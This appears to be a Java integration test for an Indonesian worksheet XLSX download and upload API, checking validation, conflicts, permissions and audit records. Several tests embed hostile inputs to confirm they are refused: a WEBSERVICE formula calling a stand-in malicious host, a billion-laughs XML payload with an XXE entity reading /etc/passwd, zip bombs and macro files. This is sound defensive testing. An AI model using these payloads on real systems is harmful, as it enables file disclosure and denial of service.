package id.tertib.worksheet.workbook;

import static id.tertib.worksheet.LembarUji.ASESOR;
import static id.tertib.worksheet.LembarUji.PENGISI;
import static id.tertib.worksheet.LembarUji.PERKARA;
import static id.tertib.worksheet.LembarUji.REKAN;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.TextNode;
import id.tertib.audit.AuditTrail;
import id.tertib.testing.FilledXlsx;
import id.tertib.testing.ProcessTest;
import id.tertib.testing.Visitor;
import id.tertib.worksheet.LembarUji;
import id.tertib.worksheet.Sheet;
import id.tertib.worksheet.UjiLembar;
import id.tertib.worksheet.sheet.SheetDesk;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The offline round trip of CONTRACT 7, with honest files and with every bad one. */
@ProcessTest
class WorksheetXlsxHttpTest {

  private static final String NOTE = "Catatan";
  private static final String ANSWER = "Jawaban";

  @LocalServerPort int port;
  @Autowired LembarUji uji;
  @Autowired SheetDesk desk;
  @Autowired AuditTrail audit;
  @Autowired ObjectMapper json;

  private String task;
  private Visitor pengisi;

  @BeforeEach
  void holdTheTask() {
    task = uji.diambil().getId();
    pengisi = Visitor.program(port, PENGISI);
  }

  @Test
  void givesTheSheetAsAWorkbook() {
    var answer = pengisi.download(address());

    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Type"))
        .contains("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .contains("attachment; filename=\"uji-2026-s2-dinkes.xlsx\"");
    assertThat(answer.headers().firstValue("Cache-Control").orElse("")).contains("no-store");
    assertThat(FilledXlsx.of(answer.body()).text("UJI-1", "Uraian"))
        .isEqualTo("Rapat internal seleksi tim");
  }

  @Test
  void findsNoChangeInAnUntouchedDownload() {
    simpan("UJI-1", "ya", "arsip\nlantai 2", 0);

    assertThat(periksa(unduh().bytes()).toString()).isEqualTo("{\"changes\":[],\"problems\":[]}");
    assertThat(ambil(unduh().bytes()).toString()).isEqualTo("{\"changes\":[],\"problems\":[]}");
    assertThat(revision("UJI-1")).isEqualTo(1);
  }

  @Test
  void showsWhatWouldChangeAndKeepsNothing() {
    simpan("UJI-1", "ya", "arsip", 0);
    var file =
        unduh()
            .set("UJI-1", ANSWER, "Tidak")
            .set("UJI-2", ANSWER, "ya")
            .set("UJI-2", NOTE, "=di laci")
            .bytes();

    var answer = periksa(file);

    assertThat(answer.path("problems")).isEmpty();
    assertThat(answer.path("changes").toString())
        .isEqualTo(
            "[{\"code\":\"UJI-1\",\"from\":\"Ya; catatan: arsip\",\"to\":\"Tidak; catatan:"
                + " arsip\"},{\"code\":\"UJI-2\",\"from\":null,\"to\":\"Ya; catatan: =di laci\"}]");
    assertThat(revision("UJI-1")).isEqualTo(1);
    assertThat(revision("UJI-2")).isZero();
  }

  @Test
  void takesTheChangesOnRecordAndFindsNoneAfterwards() {
    simpan("UJI-1", "ya", "arsip", 0);
    var file = unduh().set("UJI-1", ANSWER, "Tidak").set("UJI-3", ANSWER, "Ya").bytes();

    var answer = ambil(file);

    assertThat(answer.path("changes").findValuesAsText("code")).containsExactly("UJI-1", "UJI-3");
    assertThat(revision("UJI-1")).isEqualTo(2);
    assertThat(butir("UJI-1").path("answer").asText()).isEqualTo("tidak");
    assertThat(butir("UJI-1").path("note").asText()).isEqualTo("arsip");
    assertThat(butir("UJI-3").path("answer").asText()).isEqualTo("ya");
    assertThat(audit.of(PERKARA))
        .anySatisfy(
            row -> {
              assertThat(row.who()).isEqualTo(PENGISI);
              assertThat(row.what()).isEqualTo("mengisi");
              assertThat(row.detail()).isEqualTo("UJI-1, dari berkas XLSX");
              assertThat(row.before()).isEqualTo("Ya; catatan: arsip");
              assertThat(row.after()).isEqualTo("Tidak; catatan: arsip");
            })
        .anySatisfy(
            row -> {
              assertThat(row.what()).isEqualTo("mengambil isian dari XLSX");
              assertThat(row.detail()).isEqualTo("isian.xlsx");
              assertThat(row.after()).startsWith("2 butir, SHA-256 ");
            });
    assertThat(periksa(file).toString()).isEqualTo("{\"changes\":[],\"problems\":[]}");
  }

  @Test
  void makesAClearedCellABlankOnlyWhereSomethingStood() {
    simpan("UJI-1", "ya", null, 0);

    var answer = ambil(unduh().clear("UJI-1", ANSWER).set("UJI-2", ANSWER, "  ").bytes());

    assertThat(answer.path("changes").toString())
        .isEqualTo("[{\"code\":\"UJI-1\",\"from\":\"Ya\",\"to\":null}]");
    assertThat(butir("UJI-1").path("answer").isNull()).isTrue();
    assertThat(revision("UJI-2")).isZero();
  }

  @Test
  void refusesAFileOfAnotherOfficeAndNamesIt() {
    var foreign = lembarLain("2026-S2/dlh");

    assertWhole(foreign, "milik Dinas Kesehatan", "2026-S2/dlh", "2026-S2/dinkes");
  }

  @Test
  void refusesAFileOfLastSemesterAndNamesIt() {
    var old = lembarLain("2026-S1/dinkes");

    assertWhole(old, "2026-S1/dinkes", "Unduh XLSX");
  }

  @Test
  void refusesAFileOfAnotherVersionOfTheInstrument() {
    assertWhole(
        unduh()
            .with(book -> book.getSheet(Stamp.SHEET).getRow(3).getCell(1).setCellValue("lama"))
            .bytes(),
        "milik");
  }

  @Test
  void refusesAWorkbookWithoutOurStamp() throws IOException {
    try (var book = new XSSFWorkbook();
        var content = new ByteArrayOutputStream()) {
      book.createSheet("Isian").createRow(0).createCell(0).setCellValue("Kode");
      book.write(content);
      assertWhole(content.toByteArray(), "bukan unduhan dari Tertib");
    }
    assertWhole(
        unduh()
            .with(book -> book.getSheet(Stamp.SHEET).getRow(9).getCell(1).setCellValue("x"))
            .bytes(),
        "bukan unduhan dari Tertib");
  }

  @Test
  void refusesAFileWhoseColumnsWereChanged() {
    assertWhole(unduh().cell("Kode", ANSWER, cell -> cell.setCellValue("Nilai")).bytes(), "kolom");
  }

  @Test
  void namesARowThatWasAdded() {
    assertProblem(
        unduh()
            .with(
                book -> {
                  var row = book.getSheetAt(0).createRow(60);
                  row.createCell(0).setCellValue("UJI-9");
                  row.createCell(2).setCellValue("Ya");
                })
            .bytes(),
        "UJI-9",
        "(baris 61) tidak ada pada lembar ini");
  }

  @Test
  void namesARowWithAnAnswerButNoCode() {
    var file = unduh();
    var column = file.column(ANSWER);
    file.with(book -> book.getSheetAt(0).createRow(60).createCell(column).setCellValue("Ya"));

    assertProblem(file.bytes(), null, "Baris 61");
  }

  @Test
  void namesARowThatWasRemoved() {
    var file = unduh();
    file.page().removeRow(file.row("UJI-2"));

    assertProblem(file.bytes(), "UJI-2", "tidak ada lagi di berkas");
  }

  @Test
  void namesARowThatStandsTwice() {
    assertProblem(
        unduh()
            .with(book -> book.getSheetAt(0).createRow(60).createCell(0).setCellValue("UJI-1"))
            .bytes(),
        "UJI-1",
        "lebih dari sekali di berkas");
  }

  @Test
  void readsRowsInAnotherOrder() {
    var file = unduh().set("UJI-1", ANSWER, "Ya");
    var from = file.row("UJI-1");
    var column = file.column(ANSWER);
    var to = file.page().createRow(60);
    to.createCell(0).setCellValue("UJI-1");
    to.createCell(column).setCellValue("Ya");
    file.page().removeRow(from);

    assertThat(periksa(file.bytes()).path("changes").findValuesAsText("code"))
        .containsExactly("UJI-1");
  }

  @Test
  void refusesAFormulaAsAnAnswer() {
    assertProblem(
        unduh().formula("UJI-1", ANSWER, "IF(TRUE,\"Ya\",\"Tidak\")").bytes(),
        "UJI-1",
        "sel Jawaban berisi rumus");
    assertProblem(
        unduh().formula("UJI-1", NOTE, "WEBSERVICE(\"http://jahat.example\")").bytes(),
        "UJI-1",
        "sel Catatan berisi rumus");
  }

  @Test
  void refusesAChoiceThatIsNotInTheList() {
    assertProblem(
        unduh().set("UJI-1", ANSWER, "Mungkin").bytes(),
        "UJI-1",
        "berisi ‘Mungkin’, seharusnya salah satu dari Ya, Tidak");
    assertProblem(unduh().set("UJI-1", ANSWER, 1).bytes(), "UJI-1", "berisi ‘1’");
  }

  @Test
  void refusesANoteThatIsTooLong() {
    assertProblem(
        unduh().set("UJI-1", NOTE, "x".repeat(4001)).bytes(), "UJI-1", "catatan terlalu panjang");
  }

  @Test
  void takesNothingWhileOneRowIsWrong() {
    var file = unduh().set("UJI-1", ANSWER, "Ya").set("UJI-2", ANSWER, "Entah").bytes();

    assertThat(periksa(file).path("changes").findValuesAsText("code")).containsExactly("UJI-1");
    var refused = json(pengisi.upload(address(), "isian.xlsx", file), 400);

    assertThat(refused.path("detail").asText())
        .contains("Tidak ada isian yang diambil", "1 masalah");
    assertThat(refused.path("changes")).isEmpty();
    assertThat(refused.path("problems").path(0).path("code").asText()).isEqualTo("UJI-2");
    assertThat(revision("UJI-1")).isZero();
  }

  @Test
  void refusesARowThatChangedMeanwhileAndSaysWhatStandsThereNow() {
    var file = unduh().set("UJI-1", ANSWER, "Tidak").set("UJI-2", ANSWER, "Ya").bytes();
    simpan("UJI-1", "ya", "diisi di tab", 0);

    var answer = periksa(file);

    assertThat(answer.path("changes").findValuesAsText("code")).containsExactly("UJI-2");
    var problem = answer.path("problems").path(0);
    assertThat(problem.path("code").asText()).isEqualTo("UJI-1");
    assertThat(problem.path("blocking").asBoolean()).isTrue();
    assertThat(problem.path("message").asText())
        .contains(
            "sudah diubah oleh Asesor Dinas Kesehatan",
            "WIB",
            "sekarang: Ya; catatan: diisi di tab");
    json(pengisi.upload(address(), "isian.xlsx", file), 400);
    assertThat(butir("UJI-1").path("answer").asText()).isEqualTo("ya");
    assertThat(revision("UJI-2")).isZero();
  }

  @Test
  void leavesARowAloneThatChangedOnTheSheetOnlyAndTakesTheOthers() {
    var file = unduh().set("UJI-2", ANSWER, "Ya").bytes();
    simpan("UJI-1", "ya", null, 0);

    var answer = ambil(file);

    assertThat(answer.path("changes").findValuesAsText("code")).containsExactly("UJI-2");
    var problem = answer.path("problems").path(0);
    assertThat(problem.path("code").asText()).isEqualTo("UJI-1");
    assertThat(problem.path("blocking").asBoolean()).isFalse();
    assertThat(problem.path("message").asText()).contains("jadi lembar tetap: Ya");
    assertThat(butir("UJI-1").path("answer").asText()).isEqualTo("ya");
    assertThat(butir("UJI-2").path("answer").asText()).isEqualTo("ya");
  }

  @Test
  void isContentWhenFileAndSheetSayTheSame() {
    var file = unduh().set("UJI-1", ANSWER, "Ya").bytes();
    simpan("UJI-1", "ya", null, 0);

    assertThat(periksa(file).toString()).isEqualTo("{\"changes\":[],\"problems\":[]}");
  }

  @Test
  void refusesWhatIsNoWorkbook() {
    assertWhole("kode;jawaban\nUJI-1;Ya".getBytes(StandardCharsets.UTF_8), "bukan buku kerja XLSX");
    assertWhole(new byte[0], "kosong");
    assertWhole(zip("rekap.txt", "halo".getBytes(StandardCharsets.UTF_8)), "bukan buku kerja");
    assertThat(json(pengisi.post(address() + "?dryRun=true", "{}"), 400).path("detail").asText())
        .contains("tidak ada berkas");
  }

  @Test
  void refusesABrokenZip() {
    var whole = unduh().bytes();
    assertWhole(Arrays.copyOf(whole, whole.length / 2), "rusak");
    var scratched = whole.clone();
    Arrays.fill(scratched, 200, 1200, (byte) 7);
    assertWhole(scratched, "Ditolak");
    assertWhole(changed(whole, "xl/workbook.xml", "<workbook><".getBytes()), "rusak");
  }

  @Test
  void refusesAZipBomb() {
    var bomb = changed(unduh().bytes(), "xl/sharedStrings.xml", new byte[60_000_000]);
    assertThat(bomb.length).isLessThan(1_000_000);

    assertWhole(bomb, "terlalu besar untuk lembar ini");
  }

  @Test
  void refusesAMillionEmptyRows() {
    var rows = new StringBuilder("<worksheet><sheetData>");
    for (int row = 1; row <= 1_000_000; row++) {
      rows.append("<row r=\"").append(row).append("\"/>");
    }
    rows.append("</sheetData></worksheet>");
    var bomb =
        changed(
            unduh().bytes(),
            "xl/worksheets/sheet1.xml",
            rows.toString().getBytes(StandardCharsets.UTF_8));

    assertWhole(bomb, "terlalu besar untuk lembar ini");
  }

  @Test
  void refusesEntitiesThatGrow() {
    var laughs =
        """
        <?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">
        <!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]>
        <sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
        <si><t>&c;&d;</t></si></sst>
        """;
    var answer =
        pengisi.upload(
            address() + "?dryRun=true",
            "isian.xlsx",
            changed(
                unduh().bytes(), "xl/sharedStrings.xml", laughs.getBytes(StandardCharsets.UTF_8)));

    assertThat(json(answer, 400).path("detail").asText()).startsWith("Ditolak");
    assertThat(answer.body()).doesNotContain("root:");
  }

  @Test
  void refusesMacrosByTypeAndByPart() throws IOException {
    try (var content = new ByteArrayOutputStream()) {
      var book = unduh().workbook();
      book.setWorkbookType(XSSFWorkbookType.XLSM);
      book.write(content);
      assertWhole(content.toByteArray(), "makro");
    }
    assertWhole(changed(unduh().bytes(), "xl/vbaProject.bin", new byte[] {1}), "makro");
  }

  @Test
  void refusesAPasswordAndAnOldWorkbook() throws IOException {
    try (var ole = new POIFSFileSystem();
        var content = new ByteArrayOutputStream()) {
      ole.createDocument(new ByteArrayInputStream(new byte[] {1}), "EncryptedPackage");
      ole.writeFilesystem(content);
      assertWhole(content.toByteArray(), "kata sandi");
    }
  }

  @Test
  void refusesAFileAboveTenMegabytes() {
    assertWhole(new byte[10 * 1024 * 1024 + 1], "10 MB");
  }

  @Test
  void refusesWhoeverDoesNotHoldTheTaskInTheWordsOfASave() {
    var file = unduh().set("UJI-1", ANSWER, "Ya").bytes();
    var rekan = Visitor.program(port, REKAN);

    assertThat(json(rekan.upload(address() + "?dryRun=true", "a.xlsx", file), 409).path("detail"))
        .asString()
        .contains("sedang dipegang Asesor Dinas Kesehatan");
    assertThat(rekan.download(address()).statusCode()).isEqualTo(200);
    uji.tasks.setAssignee(task, null);
    assertThat(json(pengisi.upload(address(), "a.xlsx", file), 409).path("detail"))
        .asString()
        .contains("belum diambil");
    assertThat(revision("UJI-1")).isZero();
  }

  @Test
  void hidesTheSheetFromWhoeverDoesNotSeeItsTask() {
    var file = unduh().bytes();
    for (var reader : new String[] {"bappedaasesor", ASESOR, "admpengaduan"}) {
      var visitor = Visitor.program(port, reader);
      assertThat(visitor.download(address()).statusCode()).as(reader).isEqualTo(404);
      json(visitor.upload(address(), "a.xlsx", file), 404);
    }
    assertThat(Visitor.stranger(port).download(address()).statusCode()).isEqualTo(401);
    assertThat(pengisi.download("/api/worksheets/tidak-ada/lke.xlsx").statusCode()).isEqualTo(404);
  }

  @Test
  void takesNothingIntoALockedSheetOrWhereItIsOnlyRead() {
    var locked = uji.mulai(UjiLembar.TERKUNCI);
    uji.tasks.claim(locked.getId(), PENGISI);
    var address = address(UjiLembar.TERKUNCI);
    var file = pengisi.download(address).body();
    assertThat(json(pengisi.upload(address, "a.xlsx", file), 409).path("detail").asText())
        .contains("terkunci sejak kemarin");
  }

  @Test
  void refusesAFileOfAnotherStep() {
    var filled = unduh().bytes();
    uji.tasks.complete(task);
    var next = uji.tugas(PERKARA);
    uji.tasks.claim(next.getId(), ASESOR);
    var asesor = Visitor.program(port, ASESOR);

    assertThat(json(asesor.upload(address(), "a.xlsx", filled), 400).path("detail").asText())
        .contains("diunduh pada langkah lain", "Koreksi lembar uji");
  }

  private byte[] lembarLain(String perkara) {
    var other = uji.mulai(perkara);
    uji.tasks.claim(other.getId(), PENGISI);
    return pengisi.download(address(perkara)).body();
  }

  private void simpan(String code, String answer, String note, int revision) {
    desk.save(PENGISI, task, code, TextNode.valueOf(answer), note, null, revision);
  }

  private FilledXlsx unduh() {
    return FilledXlsx.of(pengisi.download(address()).body());
  }

  private JsonNode periksa(byte[] file) {
    return json(pengisi.upload(address() + "?dryRun=true", "isian.xlsx", file), 200);
  }

  private JsonNode ambil(byte[] file) {
    return json(pengisi.upload(address(), "isian.xlsx", file), 200);
  }

  /** Refused as a whole, in the dry run and in earnest, in the shape of an answer. */
  private void assertWhole(byte[] file, String... words) {
    for (var address : new String[] {address() + "?dryRun=true", address()}) {
      var refused = json(pengisi.upload(address, "isian.xlsx", file), 400);
      assertThat(refused.path("detail").asText()).contains(words);
      assertThat(refused.path("title").asText()).isEqualTo("Berkas tidak diambil");
      assertThat(refused.path("changes").isArray()).isTrue();
      assertThat(refused.path("problems").path(0).path("message"))
          .isEqualTo(refused.path("detail"));
    }
    assertThat(revision("UJI-1")).isZero();
  }

  /** One row is in the way: named in the dry run, and nothing is taken. */
  private void assertProblem(byte[] file, String code, String words) {
    var problems = periksa(file).path("problems");
    assertThat(problems).hasSize(1);
    assertThat(problems.path(0).path("code").asText(null)).isEqualTo(code);
    assertThat(problems.path(0).path("message").asText()).contains(words);
    json(pengisi.upload(address(), "isian.xlsx", file), 400);
    assertThat(revision("UJI-1")).isZero();
  }

  private JsonNode butir(String code) {
    for (var item : json(pengisi.get("/api/tasks/" + task + "/worksheet"), 200).path("items")) {
      if (item.path("code").asText().equals(code)) {
        return item;
      }
    }
    throw new AssertionError(code);
  }

  private int revision(String code) {
    return butir(code).path("revision").asInt();
  }

  private String address() {
    return address(PERKARA);
  }

  private String address(String perkara) {
    return "/api/worksheets/%s/lke.xlsx"
        .formatted(uji.sheets.find(UjiLembar.INSTRUMENT, perkara).map(Sheet::id).orElseThrow());
  }

  private JsonNode json(HttpResponse<String> answer, int status) {
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
    try {
      return json.readTree(answer.body());
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(answer.body(), e);
    }
  }

  /** The archive with one part put in or exchanged. */
  private static byte[] changed(byte[] archive, String part, byte[] with) {
    try (var from = new ZipInputStream(new ByteArrayInputStream(archive));
        var content = new ByteArrayOutputStream()) {
      try (var to = new ZipOutputStream(content)) {
        for (var entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
          if (!entry.getName().equals(part)) {
            to.putNextEntry(new ZipEntry(entry.getName()));
            to.write(from.readAllBytes());
          }
        }
        to.putNextEntry(new ZipEntry(part));
        to.write(with);
      }
      return content.toByteArray();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] zip(String name, byte[] content) {
    return changed(new byte[0], name, content);
  }
}
